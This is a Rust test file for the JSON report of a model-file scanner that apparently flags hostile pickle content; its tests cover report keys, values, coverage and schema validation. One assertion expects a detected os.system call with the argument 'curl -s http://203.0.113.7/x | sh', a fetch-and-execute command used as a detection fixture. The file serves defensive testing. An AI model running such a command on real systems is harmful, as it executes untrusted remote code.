//! The JSON that tools rely on: its keys, its values, and the schema that describes it.

use crate::{inspected, rendered, sample, short};
use davy_policy::{Policy, judge};
use davy_report::{Detail, Report, Style, schema};
use davy_rules::CATALOG;
use davy_scan::Scan;
use serde_json::{Map, Value};
use std::collections::BTreeSet;

fn parsed(scan: &Scan) -> Value {
    serde_json::from_str(&rendered("json", scan, Style::default())).unwrap()
}

fn facts() -> Value {
    serde_json::from_str(&inspected("json", &short(), Style::default())).unwrap()
}

fn keys(value: &Value) -> BTreeSet<&str> {
    value.as_object().unwrap().keys().map(String::as_str).collect()
}

#[test]
fn the_stable_core_is_there() {
    let report = parsed(&short());
    let core = |value: &Value, names: &[&str]| {
        let missing: Vec<_> = names.iter().filter(|name| !keys(value).contains(*name)).collect();
        assert!(missing.is_empty(), "{missing:?}");
    };
    core(&report, &["schema", "verdict", "coverage", "summary", "inputs", "artifacts", "findings"]);
    let numbers = ["artifacts", "bytes", "critical", "high", "medium", "low", "gaps"];
    core(&report["summary"], &numbers);
    core(&report["inputs"][0], &["path", "verdict"]);
    core(&report["artifacts"][0], &["path", "formats", "size", "sha256", "gaps"]);
    core(&report["artifacts"][4]["gaps"][0], &["start", "len", "why", "what"]);
    let finding = [
        "rule",
        "severity",
        "confidence",
        "artifact",
        "span",
        "route",
        "message",
        "evidence",
        "remediation",
        "cwe",
        "atlas",
        "fingerprint",
    ];
    core(&report["findings"][0], &finding);
    core(&report["findings"][0]["span"], &["start", "len"]);
}

#[test]
fn values_are_those_of_the_scan() {
    let report = parsed(&sample::scan());
    assert_eq!(report["schema"], "davy-report/1");
    assert_eq!((&report["verdict"], &report["coverage"]), (&"fail".into(), &"partial".into()));
    let summary = &report["summary"];
    let numbers =
        ["artifacts", "bytes", "critical", "high", "medium", "gaps", "unread", "unopened"];
    let numbers = numbers.map(|name| summary[name].as_u64().unwrap());
    assert_eq!(numbers, [7, 1_234_567 + 20_000 + 4_096, 1, 1_244, 2, 3, 12_288 + 9, 1]);
    let verdicts: Vec<_> =
        report["inputs"].as_array().unwrap().iter().map(|i| &i["verdict"]).collect();
    assert_eq!(verdicts, ["fail", "incomplete", "pass", "incomplete"]);
    assert_eq!(report["artifacts"][2]["name"], sample::HOSTILE);
    assert_eq!(report["artifacts"][3]["parent"], 2);
    assert_eq!(report["findings"][1]["artifact"], "models/my model#1.pt!archive/data.pkl");
    assert_eq!(report["findings"][1]["route"], "opcode 7 REDUCE");
}

#[test]
fn rules_are_the_catalogue_and_what_else_was_found() {
    let scan = sample::scan();
    let judged = judge(&scan, &Policy::default());
    let rules = Report::new(&scan, &judged, Detail::Findings).rules;
    let ids: Vec<_> = rules.iter().map(|rule| rule.id).collect();
    assert!(ids.is_sorted() && ids.contains(&"sample-call") && ids.contains(&"sample-member"));
    assert_eq!(ids.len(), CATALOG.len() + 2);
}

#[test]
fn facts_are_there_when_asked_for() {
    assert!(parsed(&short())["artifacts"][1].get("facts").is_none());
    let report = facts();
    let facts = report["artifacts"][1]["facts"].as_array().unwrap();
    let kinds: Vec<_> = facts.iter().map(|fact| fact["kind"].as_str().unwrap()).collect();
    assert_eq!(
        kinds,
        ["import", "import", "call", "call", "assign", "reference", "tensor", "code"]
    );
    assert_eq!((&facts[0]["module"], &facts[0]["name"]), (&"os".into(), &"system".into()));
    assert!(facts[0].get("spelled").is_none());
    assert_eq!(facts[1]["spelled"]["name"], sample::HOSTILE);
    assert_eq!(
        (&facts[2]["callee"], &facts[2]["span"]["start"]),
        (&"os.system".into(), &12.into())
    );
    assert_eq!(facts[2]["args"][0], "'curl -s http://203.0.113.7/x | sh'");
    assert_eq!((&facts[3]["manner"], &facts[3]["via"]), (&"through".into(), &"map".into()));
    assert_eq!(facts[4]["text"], "os.environ = True");
    assert_eq!((&facts[7]["when"], &facts[7]["name"]), (&"used".into(), &sample::HOSTILE.into()));
}

#[test]
fn coverage_says_how_much_was_read() {
    let coverage = |scan: &Scan| parsed(scan)["coverage"].as_str().unwrap().to_owned();
    let mut scan = Scan { inputs: vec![sample::plain("m")], passed_over: vec![], surveyed: true };
    assert_eq!(coverage(&scan), "full");
    scan.surveyed = false;
    assert_eq!(coverage(&scan), "structure");
    assert_eq!(coverage(&sample::scan()), "partial");
}

#[test]
fn the_schema_describes_every_key() {
    let schema = schema();
    let mut wrong = Vec::new();
    for report in [parsed(&sample::scan()), facts()] {
        describes(&schema, &schema, &report, "$", &mut wrong);
    }
    assert_eq!(wrong, Vec::<String>::new());
}

#[test]
fn the_schema_refuses_what_is_wrong() {
    let schema = schema();
    let refused = |spoil: fn(&mut Map<String, Value>)| {
        let (mut report, mut wrong) = (parsed(&short()), Vec::new());
        spoil(report.as_object_mut().unwrap());
        describes(&schema, &schema, &report, "$", &mut wrong);
        wrong
    };
    let strange = refused(|report| drop(report.insert("strange".into(), Value::Null)));
    assert_eq!(strange, ["$.strange is not described"]);
    let missing = refused(|report| drop(report.remove("verdict")));
    assert_eq!(missing, ["$.verdict is missing"]);
    let wrong = refused(|report| drop(report.insert("coverage".into(), "all".into())));
    assert_eq!(wrong, ["$.coverage is not one of its values"]);
    let mistyped = refused(|report| drop(report.insert("inputs".into(), "all".into())));
    assert_eq!(mistyped, ["$.inputs is not of type array"]);
}

/// Collects where `value` is not as `schema` says. Knows the keywords that the schema uses, and,
/// more strictly than JSON Schema, wants every key described.
fn describes(root: &Value, schema: &Value, value: &Value, at: &str, wrong: &mut Vec<String>) {
    let schema = match schema["$ref"].as_str() {
        Some(path) => root.pointer(path.trim_start_matches('#')).unwrap(),
        None => schema,
    };
    if let Some(values) = schema["enum"].as_array()
        && !values.contains(value)
    {
        wrong.push(format!("{at} is not one of its values"));
    }
    if !schema["const"].is_null() && schema["const"] != *value {
        wrong.push(format!("{at} is not {}", schema["const"]));
    }
    let types: Vec<&str> = match &schema["type"] {
        Value::String(name) => vec![name],
        Value::Array(names) => names.iter().filter_map(Value::as_str).collect(),
        _ => vec![],
    };
    if !types.is_empty() && !types.contains(&kind(value)) {
        wrong.push(format!("{at} is not of type {}", types.join(" or ")));
    }
    for name in schema["required"].as_array().into_iter().flatten().filter_map(Value::as_str) {
        if value.get(name).is_none() {
            wrong.push(format!("{at}.{name} is missing"));
        }
    }
    for (key, value) in value.as_object().into_iter().flatten() {
        match schema["properties"].get(key) {
            Some(schema) => describes(root, schema, value, &format!("{at}.{key}"), wrong),
            None => wrong.push(format!("{at}.{key} is not described")),
        }
    }
    for item in value.as_array().into_iter().flatten().filter(|_| !schema["items"].is_null()) {
        describes(root, &schema["items"], item, &format!("{at}[]"), wrong);
    }
}

fn kind(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(number) if number.is_f64() => "number",
        Value::Number(_) => "integer",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    }
}
